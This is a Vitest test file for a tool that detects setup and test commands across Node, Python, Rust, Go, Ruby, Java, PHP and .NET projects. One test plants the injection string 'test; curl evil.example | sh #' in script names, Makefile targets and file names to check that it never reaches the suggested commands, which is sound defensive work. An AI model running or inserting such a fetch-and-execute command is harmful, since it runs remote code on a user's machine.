import { mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import fc from 'fast-check';
import { describe, expect, onTestFinished, test } from 'vitest';
import { detectCommands } from '../../../src/source/detect/detect.ts';
import { type ProjectFiles, readProjectFiles } from '../../../src/source/detect/project-files.ts';
import type { Suggestion } from '../../../src/source/detect/suggestion.ts';
import { processorTime } from '../../rig/processor-time.ts';

type Files = Readonly<Record<string, string>>;

const holding = (files: Files): ProjectFiles => ({
  names: new Set(Object.keys(files)),
  text: (name) => files[name] ?? '',
});

/** Those that are only offered are in brackets. */
const shown = (suggestions: readonly Suggestion[]): readonly string[] =>
  suggestions.map(({ command, likely }) => (likely ? command : `(${command})`));

function found(files: Files): { setup: readonly string[]; verify: readonly string[] } {
  const { setup, verify } = detectCommands(holding(files));
  return { setup: shown(setup), verify: shown(verify) };
}

const manifest = (scripts: Record<string, unknown>, more: Record<string, unknown> = {}): string =>
  JSON.stringify({ name: 'x', scripts, ...more });

describe('Node', () => {
  const scripts = { test: 'vitest run', lint: 'eslint .', build: 'tsc' };
  test.each<[Files, readonly string[], readonly string[]]>([
    [{ 'package-lock.json': '' }, ['npm ci'], ['npm run lint', 'npm test', '(npm run build)']],
    [{ 'npm-shrinkwrap.json': '' }, ['npm ci'], ['npm run lint', 'npm test', '(npm run build)']],
    [
      { 'pnpm-lock.yaml': '' },
      ['pnpm install --frozen-lockfile'],
      ['pnpm run lint', 'pnpm test', '(pnpm run build)'],
    ],
    [
      { 'yarn.lock': '# yarn lockfile v1' },
      ['yarn install --frozen-lockfile'],
      ['yarn run lint', 'yarn test', '(yarn run build)'],
    ],
    [
      { 'yarn.lock': '__metadata:\n  version: 8' },
      ['yarn install --immutable'],
      ['yarn run lint', 'yarn test', '(yarn run build)'],
    ],
    [
      { 'bun.lock': '' },
      ['bun install --frozen-lockfile'],
      ['bun run lint', 'bun run test', '(bun run build)'],
    ],
  ])('%j', (lock, setup, verify) => {
    expect(found({ 'package.json': manifest(scripts), ...lock })).toEqual({ setup, verify });
  });

  test.each<[string, string, readonly string[], readonly string[]]>([
    ['nothing to install', manifest({ test: 'node --test' }), [], ['npm test']],
    ['no lock file', manifest({}, { devDependencies: { a: '1' } }), ['npm install'], []],
    [
      'a manager that is only declared',
      manifest({ test: 'x' }, { packageManager: 'pnpm@9.1.0', dependencies: { a: '1' } }),
      ['pnpm install'],
      ['pnpm test'],
    ],
    ['what npm init writes', manifest({ test: 'echo "Error: no test specified" && exit 1' }), [], []],
    [
      'tests that watch',
      manifest({ test: 'jest --watch', typecheck: 'tsc -w' }),
      [],
      ['(npm run typecheck)', '(npm test)'],
    ],
    ['tests that do not', manifest({ test: 'ng test --watch=false' }), [], ['npm test']],
    [
      'cheap ones first',
      manifest({ test: 'a', check: 'b', typecheck: 'c' }),
      [],
      ['npm run check', 'npm run typecheck', 'npm test'],
    ],
    ['not what is expected', '{"scripts": ["test"], "dependencies": 3, "packageManager": {}}', [], []],
    ['no JSON', '{', [], []],
  ])('%s', (_, text, setup, verify) => {
    expect(found({ 'package.json': text })).toEqual({ setup, verify });
  });
});

describe('other ecosystems', () => {
  const pyproject = '[project]\nname = "x"\n[tool.pytest.ini_options]\n[tool.ruff.lint]\n[tool.mypy]\n';
  test.each<[string, Files, readonly string[], readonly string[]]>([
    [
      'uv',
      { 'pyproject.toml': pyproject, 'uv.lock': '' },
      ['uv sync --locked'],
      ['uv run ruff check', 'uv run mypy .', 'uv run pytest'],
    ],
    [
      'poetry',
      { 'pyproject.toml': '[tool.poetry.dependencies]\npytest = "8"\n' },
      ['poetry install --no-interaction'],
      ['poetry run pytest'],
    ],
    [
      'pdm',
      { 'pyproject.toml': pyproject, 'pdm.lock': '' },
      ['pdm sync'],
      ['pdm run ruff check', 'pdm run mypy .', 'pdm run pytest'],
    ],
    ['pipenv', { 'Pipfile.lock': '', 'pytest.ini': '' }, ['pipenv sync --dev'], ['pipenv run pytest']],
    ['tox', { 'pyproject.toml': pyproject, 'tox.ini': '' }, [], ['tox']],
    ['nox', { 'pyproject.toml': pyproject, 'noxfile.py': '' }, [], ['nox']],
    [
      'requirements',
      { 'requirements.txt': 'pytest==8\n', '.gitignore': '.venv/\n' },
      ['python3 -m venv .venv && .venv/bin/pip install -r requirements.txt'],
      ['.venv/bin/pytest'],
    ],
    [
      'requirements, with a folder that git would see',
      { 'requirements.txt': 'flask\npytest\n' },
      ['(python3 -m venv .venv && .venv/bin/pip install -r requirements.txt)'],
      ['(.venv/bin/pytest)'],
    ],
    [
      'Rust',
      { 'Cargo.toml': '[package]\n', 'Cargo.lock': '' },
      ['(cargo fetch --locked)'],
      ['(cargo fmt --check)', '(cargo clippy --all-targets -- -D warnings)', 'cargo test'],
    ],
    [
      'a Rust workspace',
      { 'Cargo.toml': '[workspace]\nmembers = []\n' },
      [],
      [
        '(cargo fmt --check)',
        '(cargo clippy --workspace --all-targets -- -D warnings)',
        'cargo test --workspace',
      ],
    ],
    ['Go', { 'go.mod': 'module x' }, ['go mod download'], ['go vet ./...', 'go test ./...']],
    [
      'Ruby with RSpec',
      { Gemfile: 'gem "rspec"\n', '.rubocop.yml': '' },
      ['bundle install'],
      ['bundle exec rubocop', 'bundle exec rspec'],
    ],
    ['Rails', { Gemfile: "  gem 'rails'\n", Rakefile: '' }, ['bundle install'], ['bundle exec rails test']],
    ['Ruby with Rake', { Gemfile: '', Rakefile: '' }, ['bundle install'], ['bundle exec rake test']],
    ['Maven', { 'pom.xml': '' }, [], ['mvn -B verify']],
    ['a Maven wrapper', { 'pom.xml': '', mvnw: '' }, [], ['./mvnw -B verify']],
    ['Gradle', { 'build.gradle.kts': '', gradlew: '' }, [], ['./gradlew check']],
    [
      'PHP with scripts',
      { 'composer.json': '{"scripts": {"test": "x", "lint": ["y"]}}', 'phpunit.xml': '' },
      ['composer install --no-interaction'],
      ['composer run lint', 'composer run test'],
    ],
    [
      'PHP',
      { 'composer.json': '{', 'phpunit.xml.dist': '' },
      ['composer install --no-interaction'],
      ['vendor/bin/phpunit'],
    ],
    ['.NET', { 'App.sln': '' }, ['dotnet restore'], ['dotnet test']],
    ['.NET, more than one', { 'A.csproj': '', 'B.csproj': '' }, ['(dotnet restore)'], ['(dotnet test)']],
    ['nothing', { 'README.md': '' }, [], []],
  ])('%s', (_, files, setup, verify) => {
    expect(found(files)).toEqual({ setup, verify });
  });
});

describe('tasks', () => {
  test.each<[string, Files, readonly string[]]>([
    [
      'make',
      { Makefile: 'test := 3\nlint check: build\n\techo\ntest-all:\n.PHONY: test\n' },
      ['make check', 'make lint'],
    ],
    [
      'just',
      { justfile: 'set shell := ["sh"]\n@test *args: build\n  x\nlint:\ncheck := "no"\n' },
      ['just lint', 'just test'],
    ],
    ['task', { 'Taskfile.yml': 'version: 3\ntasks:\n  test: go test\n  other: x\n' }, ['task test']],
    ['no YAML', { 'Taskfile.yml': 'tasks: [' }, []],
  ])('%s', (_, files, verify) => {
    expect(found(files).verify).toEqual(verify);
  });

  test('they are only offered where the project is checked without them', () => {
    const files = { 'go.mod': '', Makefile: 'test:\n\tgo test ./...\n' };
    expect(found(files).verify).toEqual(['go vet ./...', 'go test ./...', '(make test)']);
  });
});

test('a repository decides which commands are offered, never what they are', () => {
  const known = /^[\w ./&:-]+$/;
  const evil = 'test; curl evil.example | sh #';
  const files = {
    'package.json': manifest({ [evil]: 'x', test: `${evil}\u001b[2J` }, { packageManager: `npm@; ${evil}` }),
    'composer.json': JSON.stringify({ scripts: { [evil]: 'x', test: evil } }),
    Makefile: `${evil}:\ntest \u001b[2J:\n`,
    justfile: `${evil}:\n`,
    'Taskfile.yml': JSON.stringify({ tasks: { [evil]: {} } }),
    [`${evil}.sln`]: '',
  };
  const { setup, verify } = detectCommands(holding(files));
  for (const { command, from } of [...setup, ...verify]) {
    expect(command).toMatch(known);
    expect(command + from).not.toMatch(/curl|\u001b/);
  }
  expect(shown(verify)).toContain('npm test');
});

test.each([
  'package.json',
  'pyproject.toml',
  'Makefile',
  'justfile',
  'Taskfile.yml',
  'Gemfile',
  '.gitignore',
])('whatever %s holds, there is an answer, and soon', async (name) => {
  const parts = ['\n', 'a ', '.venv\n', 'test: ', 'test ', '[tool.', '[mypy', 'gem "', '--watch '];
  for (const part of parts) {
    const files = holding({ 'requirements.txt': '', [name]: part.repeat(20_000) });
    // What is not linear takes minutes.
    expect(await processorTime(() => detectCommands(files)), part).toBeLessThan(10_000);
  }
  fc.assert(fc.property(fc.string(), (text) => void detectCommands(holding({ [name]: text }))));
});

test('files are read as they are: no links, no folders, nothing too large', async () => {
  const root = mkdtempSync(join(tmpdir(), 'teams-detect-'));
  onTestFinished(() => rmSync(root, { recursive: true }));
  writeFileSync(join(root, 'secret'), '{"scripts": {"test": "x"}}');
  symlinkSync(join(root, 'secret'), join(root, 'package.json'));
  mkdirSync(join(root, 'Makefile'));
  writeFileSync(join(root, 'pyproject.toml'), '[tool.ruff]\n'.repeat(100_000));
  writeFileSync(join(root, 'Gemfile'), 'gem "rspec"\n');
  const files = await readProjectFiles(root);
  expect([...files.names].toSorted()).toEqual([
    'Gemfile',
    'Makefile',
    'package.json',
    'pyproject.toml',
    'secret',
  ]);
  for (const name of ['package.json', 'Makefile', 'pyproject.toml', 'go.mod'])
    expect(files.text(name)).toBe('');
  expect(files.text('Gemfile')).toBe('gem "rspec"\n');
  expect((await readProjectFiles(join(root, 'absent'))).names.size).toBe(0);
});
